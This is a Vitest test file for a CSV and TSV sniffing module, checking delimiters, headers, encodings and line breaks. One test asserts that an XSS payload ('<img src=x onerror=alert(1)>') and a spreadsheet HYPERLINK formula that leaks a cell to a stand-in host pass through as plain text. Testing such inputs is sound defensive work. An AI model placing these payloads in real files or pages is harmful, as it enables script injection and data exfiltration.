import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { cleanHeaders, detectDelimiter, detectHeader, isValueLike, sniffCsv } from '../../../src/data/detect/sniff';
import { decodeText, detectEncoding } from '../../../src/data/detect/encoding';

const fixtureText = (name: string) => {
  const b = new Uint8Array(readFileSync(new URL(`../../fixtures/${name}`, import.meta.url)));
  return decodeText(b, detectEncoding(b, { isWholeFile: true }).encoding);
};
const CDNOW = new URL('../../../../shared/datasets/cdnow/', import.meta.url);

describe('sniffCsv on fixtures', () => {
  it('comma CSV with header', () => {
    const s = sniffCsv(fixtureText('duplicate-order-ids.csv'), { isWholeFile: true });
    expect(s).toMatchObject({ delimiter: ',', quote: '"', hasHeader: true, fieldCountMismatches: 0, lineBreak: '\n' });
    expect(s.headers).toEqual(['order_id', 'customer_id', 'order_date', 'amount']);
    expect(s.rows).toHaveLength(6);
    expect(s.rows[2]).toEqual(['1002', 'C02', '2024-04-02', '20.00']);
  });
  it('semicolons with decimal commas', () => {
    const s = sniffCsv(fixtureText('semicolon-decimal-comma.csv'));
    expect(s.delimiter).toBe(';');
    expect(s.headers).toEqual(['order_id', 'customer_id', 'order_date', 'amount', 'currency']);
    expect(s.rows[0]).toEqual(['A-1', 'K100', '03.01.2024', '1.234,56', 'EUR']);
  });
  it('tabs, with commas and quotes inside values', () => {
    const s = sniffCsv(fixtureText('tab-separated.tsv'));
    expect(s.delimiter).toBe('\t');
    expect(s.rows[0][4]).toBe('Mug, large');
    expect(s.rows[1][4]).toBe('Tea "Earl Grey"');
  });
  it('ragged rows are counted, not dropped', () => {
    const s = sniffCsv(fixtureText('ragged-rows.csv'));
    expect(s.rows).toHaveLength(8);
    expect(s.fieldCountMismatches).toBe(2);
    expect(s.rows[2]).toEqual(['1003', 'C03', '2024-01-07']);
  });
  it('only a header row', () => {
    const s = sniffCsv(fixtureText('only-header.csv'));
    expect(s).toMatchObject({ hasHeader: true, headers: ['order_id', 'customer_id', 'order_date', 'amount'], rows: [] });
  });
  it('Persian: BOM stripped, CRLF, ZWNJ kept in values', () => {
    const s = sniffCsv(fixtureText('persian-orders.csv'));
    expect(s.headers[0]).toBe('شماره سفارش');
    expect(s.headers[3]).toBe('مبلغ (تومان)');
    expect(s.lineBreak).toBe('\r\n');
    expect(s.rows).toHaveLength(12);
    expect(s.rows[4][5]).toBe('کتاب\u200cهای درسی');
  });
  it('an HTML header is just text (escaping is the view\'s job)', () => {
    const s = sniffCsv(fixtureText('xss-header.csv'));
    expect(s.headers[1]).toBe('<img src=x onerror=alert(1)>');
    expect(s.rows[1][1]).toBe('=HYPERLINK("http://example.invalid/?leak="&A1)');
  });
  it('UTF-16 Excel unicode text', () => {
    const s = sniffCsv(fixtureText('excel-unicode-text.txt'));
    expect(s).toMatchObject({ delimiter: '\t', lineBreak: '\r\n', headers: ['order_id', 'customer_id', 'order_date', 'amount'] });
  });
});

describe('CDNOW whitespace-separated files', () => {
  it('sample: no header, five columns', () => {
    const s = sniffCsv(readFileSync(new URL('CDNOW_sample.txt', CDNOW), 'utf8').slice(0, 65536));
    expect(s).toMatchObject({ delimiter: 'whitespace', hasHeader: false, lineBreak: '\r\n', fieldCountMismatches: 0 });
    expect(s.headers).toEqual(['column_1', 'column_2', 'column_3', 'column_4', 'column_5']);
    expect(s.rows[0]).toEqual(['00004', '0001', '19970101', '2', '29.33']);
    expect(s.rows).toHaveLength(200);
  });
  it('master: header with leading spaces', () => {
    const s = sniffCsv(readFileSync(new URL('CDNOW_master.txt', CDNOW), 'utf8').slice(0, 65536), { previewRows: 10 });
    expect(s).toMatchObject({ delimiter: 'whitespace', hasHeader: true, headers: ['customer_id', 'date', 'number_of_cds', 'dollar_value'] });
    expect(s.rows[0]).toEqual(['00001', '19970101', '1', '11.77']);
    expect(s.rows).toHaveLength(10);
  });
  it('names with spaces are not whitespace-separated', () => {
    expect(detectDelimiter('name\nJohn Smith\nJane Doe\n')).toBe(',');
  });
});

describe('head slices and options', () => {
  it('a cut-off last line is left out unless isWholeFile', () => {
    const text = 'a,b\n1,2\n3,4\n5,';
    expect(sniffCsv(text).rows).toEqual([['1', '2'], ['3', '4']]);
    expect(sniffCsv(text, { isWholeFile: true }).rows).toEqual([['1', '2'], ['3', '4'], ['5', '']]);
  });
  it('previewRows limits rows', () => {
    const text = 'a,b\n' + Array.from({ length: 50 }, (_, i) => `${i},x`).join('\n') + '\n';
    expect(sniffCsv(text, { previewRows: 5 }).rows).toHaveLength(5);
    expect(sniffCsv(text).rows).toHaveLength(50);
  });
  it('forced delimiter and header', () => {
    const s = sniffCsv('1;2\n3;4\n', { delimiter: ';', hasHeader: true });
    expect(s).toMatchObject({ delimiter: ';', hasHeader: true, headers: ['1', '2'], rows: [['3', '4']] });
  });
  it('headerless comma file gets column_N names', () => {
    const s = sniffCsv('1001,C1,2024-01-01,10.00\n1002,C2,2024-01-02,20.00\n');
    expect(s).toMatchObject({ hasHeader: false, headers: ['column_1', 'column_2', 'column_3', 'column_4'] });
    expect(s.rows).toHaveLength(2);
  });
  it('pipes and old Mac line breaks', () => {
    expect(sniffCsv('a|b|c\r1|2|3\r')).toMatchObject({ delimiter: '|', lineBreak: '\r', rows: [['1', '2', '3']] });
  });
  it('empty text', () => {
    expect(sniffCsv('')).toMatchObject({ hasHeader: false, headers: [], rows: [], fieldCountMismatches: 0 });
  });
});

describe('cleanHeaders', () => {
  it('trims, strips BOM, collapses spaces, names empties and de-duplicates case-insensitively', () => {
    expect(cleanHeaders(['\ufeffid', ' Total ', '', 'total', 'Total', 'a\nb', 'x', 'x_2', 'x']))
      .toEqual(['id', 'Total', 'column_3', 'total_2', 'Total_3', 'a b', 'x', 'x_2', 'x_3']);
  });
});

describe('detectHeader / isValueLike', () => {
  it('a first row of words is a header, a row with numbers or dates is not', () => {
    expect(detectHeader([['Name', 'Total'], ['#1', '10.00']])).toBe(true);
    expect(detectHeader([['1001', 'C1'], ['1002', 'C2']])).toBe(false);
    expect(detectHeader([['C1', '2024-01-01'], ['C2', '2024-01-02']])).toBe(false);
    expect(detectHeader([])).toBe(false);
  });
  it('isValueLike', () => {
    expect(['12', '1.234,56', '۱٬۲۵۰', '2024-01-01', '01/02/2024', '$5'].every(isValueLike)).toBe(true);
    expect(['', 'Total', 'مبلغ (تومان)', 'Created (UTC)', 'USD'].some(isValueLike)).toBe(false);
  });
});
